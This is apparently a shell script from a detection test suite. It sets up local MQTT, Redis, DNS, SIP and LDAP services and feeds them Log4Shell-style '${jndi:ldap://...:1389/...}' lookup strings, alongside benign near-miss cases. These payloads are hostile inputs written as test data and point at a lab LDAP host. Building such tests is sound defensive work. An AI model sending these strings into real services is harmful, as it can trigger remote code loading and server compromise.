# SPDX-License-Identifier: GPL-2.0-or-later
# Brokers, stores, phones, names and directories, each by its own client: mosquitto_pub, redis-cli, SIPp, dig, OpenLDAP's tools.

mqtt_out() { timeout 5 $OUT mosquitto_pub -h 10.99.0.2 -i sensor-17 "$@"; }
mqtt_packed() {
    printf '{"who":"%s"}' "$1" | gzip -n >"$WORK/message.gz"
    mqtt_out -t home/door -f "$WORK/message.gz"
}

redis_out() { timeout 5 $OUT redis-cli -h 10.99.0.2 "$@"; }
dig_out() { timeout 10 $OUT dig @10.99.0.2 +tries=1 +time=2 "$@"; }
ldap_tool() { timeout 10 $IN "$1" -x -H ldap://10.99.0.1:389 "${@:2}"; }

# sip_out SCENARIO NAME: a call by a telephone, or a caller, of that name.
sip_out() {
    sed "s|@NAME@|$2|g" "$here/srv/sip-$1.xml" >"$WORK/sip.xml"
    timeout 10 $OUT sh -c 'cd "$0" && exec sipp "$@"' "$WORK" -sf sip.xml -i 10.99.0.1 -p 5060 -m 1 -nostdin "${@:3}" 10.99.0.2:5060
}

benign_mqtt() {
    mqtt_out -t 'home/${room}/temperature' -m '${value:-20}'
    mqtt_out -V mqttv5 -u '${MQTT_USER}' -P 'jndi:ldap' -t a -m b -D PUBLISH user-property app '${app.name}' --will-topic gone \
        --will-payload '${client} is gone'
    mqtt_packed '${name}, jndi:ldap://host/a'
}

benign_redis() {
    redis_out set 'session:${id}' '{"user":"${name}","note":"jndi:ldap://host/a"}'
    redis_out get 'session:${id}'
    redis_out --user default --pass '${PASSWORD}' --no-auth-warning ping
}

benign_dig() {
    dig_out www.corp.example A
    dig_out +tcp '${host}.corp.example' A
    dig_out jndi.ldap.corp.example TXT
}

benign_sip() {
    sip_out call 'phone ${version}, jndi:ldap://host/a'
    sip_out caller '${caller}'
}

benign_directory() {
    ldap_tool ldapwhoami -D 'uid=${user},dc=corp,dc=example' -w '${PASSWORD}'
    ldap_tool ldapwhoami -D uid=alice,dc=corp,dc=example -w alicepw
    ldap_tool ldapcompare dc=corp,dc=example 'o:${organisation}'
    ldap_tool ldapsearch -LLL -b 'ou=${unit},dc=corp,dc=example' '(cn=jndi:ldap://host/a)' cn
}

messaging_names="mqtt-message mqtt-topic mqtt-user mqtt-property mqtt-packed benign-mqtt redis-value redis-auth redis-stored benign-redis
    dns-dig dns-dig-tcp dns-txt-answer benign-dig sip-call sip-caller sip-call-tcp benign-sip"
# shellcheck disable=SC2086
if wanted $messaging_names && have mosquitto mosquitto_pub redis-server redis-cli dnsmasq dig sipp; then
    printf 'listener 1883 10.99.0.2\nallow_anonymous true\n' >"$WORK/mosquitto.conf"
    serve in 1883 mosquitto -c "$WORK/mosquitto.conf"
    serve in 6379 redis-server --bind 10.99.0.2 --protected-mode no --save '' --dir "$WORK"
    serve in 53 dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --pid-file= -u root --bind-interfaces \
        --listen-address=10.99.0.2 --address=/corp.example/10.99.0.2 \
        --txt-record='text.corp.example,${jndi:ldap://10.99.0.1:1389/txt}' --txt-record='jndi.ldap.corp.example,${text}'
    serve in 5060 sh -c 'cd "$0" && exec sipp "$@"' "$WORK" -sn uas -i 10.99.0.2 -p 5060 -nostdin
    scene mqtt-message mqtt_out -t home/door -m '{"who":"${jndi:ldap://10.99.0.1:1389/message}"}'
    scene mqtt-topic mqtt_out -t 'home/${jndi:ldap://10.99.0.1:1389/topic}' -m open
    scene mqtt-user mqtt_out -u '${jndi:ldap://10.99.0.1:1389/user}' -P secret -t home/door -m open
    scene mqtt-property mqtt_out -V mqttv5 -D PUBLISH user-property app '${jndi:ldap://10.99.0.1:1389/property}' -t home/door -m open
    scene mqtt-packed mqtt_packed '${jndi:ldap://10.99.0.1:1389/zipped}'
    scene benign-mqtt benign_mqtt
    scene redis-auth redis_out --no-auth-warning --user '${jndi:ldap://10.99.0.1:1389/user}' --pass secret ping
    scene redis-value redis_out set session:17 '{"user":"${jndi:ldap://10.99.0.1:1389/value}"}'
    scene redis-stored redis_out get session:17
    scene benign-redis benign_redis
    scene dns-dig dig_out '${jndi:ldap://10.99.0.1:1389/dig}' A
    scene dns-dig-tcp dig_out +tcp '${jndi:ldap://10.99.0.1:1389/tcp}' A
    scene dns-txt-answer dig_out text.corp.example TXT
    scene benign-dig benign_dig
    scene sip-call sip_out call '${jndi:ldap://10.99.0.1:1389/call}'
    scene sip-caller sip_out caller '${jndi:ldap://10.99.0.1:1389/caller}'
    scene benign-sip benign_sip
    stop_servers
    serve in 5060 sh -c 'cd "$0" && exec sipp "$@"' "$WORK" -sn uas -t t1 -i 10.99.0.2 -p 5060 -nostdin
    scene sip-call-tcp sip_out call '${jndi:ldap://10.99.0.1:1389/tcp}' -t t1
    stop_servers
fi

if wanted ldap-bind-dn ldap-base ldap-compare benign-ldap-tools; then
    ldap_up
    scene ldap-bind-dn ldap_tool ldapwhoami -D 'cn=${jndi:ldap://10.99.0.1:1389/bind}' -w secret
    scene ldap-base ldap_tool ldapsearch -LLL -b 'ou=${jndi:ldap://10.99.0.1:1389/base}' '(cn=a)' cn
    scene ldap-compare ldap_tool ldapcompare dc=corp,dc=example 'o:${jndi:ldap://10.99.0.1:1389/compare}'
    scene benign-ldap-tools benign_directory
    stop_servers
fi
